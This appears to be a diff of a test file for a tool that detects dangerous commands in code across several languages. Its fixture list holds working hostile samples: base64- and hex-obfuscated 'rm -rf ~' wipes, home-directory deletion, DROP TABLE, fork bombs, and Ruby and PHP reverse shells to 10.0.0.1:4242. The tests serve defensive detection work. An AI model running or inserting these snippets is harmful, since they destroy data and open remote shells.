@@ -69,12 +69,12 @@ HARMFUL: list[tuple[str, str, tuple[Word, ...]]] = [
     (
         "python",
         "import os\n[os.remove(os.path.join(r, f)) for r, _, fs in os.walk('/home/dev') for f in fs]",
-        ("rm", "-f", "/home/dev/*"),
+        ("rm", "-rf", "/home/dev/*"),
     ),
     (
         "python",
         "from pathlib import Path\nfor p in Path.home().iterdir():\n  if p.is_file():\n    p.unlink()",
-        ("rm", "-f", "/home/dev/*"),
+        ("rm", "-rf", "/home/dev/*"),
     ),
     ("python", "import sys, shutil\nif __name__ == '__main__':\n  shutil.rmtree(sys.argv[1])", RM_HOME),
     ("python", "import sqlite3\nsqlite3.connect('dev.db').execute('DROP TABLE t')", ("sqlite3", "dev.db", "DROP TABLE t")),
@@ -115,7 +115,7 @@ HARMFUL: list[tuple[str, str, tuple[Word, ...]]] = [
     (
         "javascript",
         "const fs = require('fs'); fs.readdir('/home/dev', (e, fs_) => { for (const f of fs_) fs.unlink('/home/dev/' + f, () => {}) })",
-        ("rm", "-f", "/home/dev/*"),
+        ("rm", "-rf", "/home/dev/*"),
     ),
     ("javascript", "await client.query('DROP TABLE users')", ("sql", "DROP TABLE users")),
     (
@@ -135,7 +135,7 @@ HARMFUL: list[tuple[str, str, tuple[Word, ...]]] = [
     ("ruby", "exec ['726d202d7266207e'].pack('H*')", RM_HOME),
     ("ruby", "eval(Base64.decode64('c3lzdGVtKCJybSAtcmYgfiIp'))", RM_HOME),
     ("ruby", "s = <<~SH\n  rm -rf #{Dir.home}\nSH\nsystem(s)", RM_HOME),
-    ("ruby", "Dir.glob('/home/dev/*').each(&File.method(:delete))", ("rm", "-f", "/home/dev/*")),
+    ("ruby", "Dir.glob('/home/dev/*').each(&File.method(:delete))", ("rm", "-rf", "/home/dev/*")),
     ("ruby", "task :wipe do\n  rm_rf '/home/dev'\nend", RM_HOME),
     ("ruby", "loop { fork }", ("fork-bomb",)),
     ("ruby", "s = TCPSocket.new('10.0.0.1', 4242)\nwhile cmd = s.gets\n  IO.popen(cmd, 'r') { |io| s.print io.read }\nend", ("reverse-shell", "10.0.0.1", "4242")),
@@ -149,8 +149,8 @@ HARMFUL: list[tuple[str, str, tuple[Word, ...]]] = [
     ("perl", "sub wipe { my ($dir) = @_; rmtree($dir); } wipe('/home/dev');", RM_HOME),
     ("perl", "my @d = ('/home/dev'); rmtree($_) for @d;", RM_HOME),
     ("perl", "my $s = <<'X';\nrm -rf ~\nX\nsystem($s);", RM_HOME),
-    ("perl", 'unlink glob("/home/dev/*")', ("rm", "-f", "/home/dev/*")),
-    ("perl", 'use File::Find; find(sub { unlink $File::Find::name if -f }, "/home/dev");', ("rm", "-f", "/home/dev/*")),
+    ("perl", 'unlink glob("/home/dev/*")', ("rm", "-rf", "/home/dev/*")),
+    ("perl", 'use File::Find; find(sub { unlink $File::Find::name if -f }, "/home/dev");', ("rm", "-rf", "/home/dev/*")),
     ("perl", "fork while 1;", ("fork-bomb",)),
     (
         "perl",
@@ -165,8 +165,8 @@ HARMFUL: list[tuple[str, str, tuple[Word, ...]]] = [
     ("php", "eval(base64_decode('c3lzdGVtKCJybSAtcmYgfiIpOw=='));", RM_HOME),
     ("php", "call_user_func('shell_exec', 'rm -rf ~');", RM_HOME),
     ("php", "class A { static function go($d) { system(\"rm -rf $d\"); } } A::go('/home/dev');", RM_HOME),
-    ("php", "array_map('unlink', glob('/home/dev/*'));", ("rm", "-f", "/home/dev/*")),
-    ("php", "foreach (scandir('/home/dev') as $f) { if ($f == '.' || $f == '..') continue; unlink(\"/home/dev/$f\"); }", ("rm", "-f", "/home/dev/*")),
+    ("php", "array_map('unlink', glob('/home/dev/*'));", ("rm", "-rf", "/home/dev/*")),
+    ("php", "foreach (scandir('/home/dev') as $f) { if ($f == '.' || $f == '..') continue; unlink(\"/home/dev/$f\"); }", ("rm", "-rf", "/home/dev/*")),
     ("php", "$pdo->exec('DROP TABLE users');", ("sql", "DROP TABLE users")),
     ("php", "Artisan::call('migrate:fresh');", ("php", "artisan", "migrate:fresh")),
     ("php", "$s=fsockopen('10.0.0.1',4242);exec('/bin/sh -i <&3 >&3 2>&3');", ("reverse-shell", "10.0.0.1", "4242")),
@@ -305,12 +305,20 @@ def test_deep_nesting_is_refused_and_raises_nothing(language: str) -> None:
 
 
 def test_a_program_without_end_is_refused() -> None:
-    source = (
-        "import os\n"
-        + "\n".join(f"def f{n}():\n  f{n + 1}()\n  f{n + 1}()\n  f{n + 1}()" for n in range(15))
-        + "\nf0()\n"
-    )
-    found = commands_of("python", source, world=world(), name="x")
+    # A list as an argument may have changed between two calls, so that each of them is run.
+    calls = "\n".join(f"def f{n}(x):\n" + f"  f{n + 1}(x)\n" * 3 for n in range(15))
+    found = commands_of("python", f"import os\n{calls}\nf0([os])\n", world=world(), name="x")
+    assert [refusal.kind for refusal in found.refusals] == ["limit"]
+
+
+def test_calls_that_do_nothing_do_not_make_a_program_endless() -> None:
+    calls = "\n".join(f"def f{n}():\n" + f"  f{n + 1}()\n" * 3 for n in range(15))
+    source = f"import os\n{calls}\nf0()\nos.system('rm -rf ~')\n"
+    assert argvs("python", source) == [RM_HOME]
+
+
+def test_a_program_that_starts_programs_without_end_is_refused() -> None:
+    found = commands_of("perl", "system 'ls';" * 1000, world=world(), name="x")
     assert [refusal.kind for refusal in found.refusals] == ["limit"]
 
 
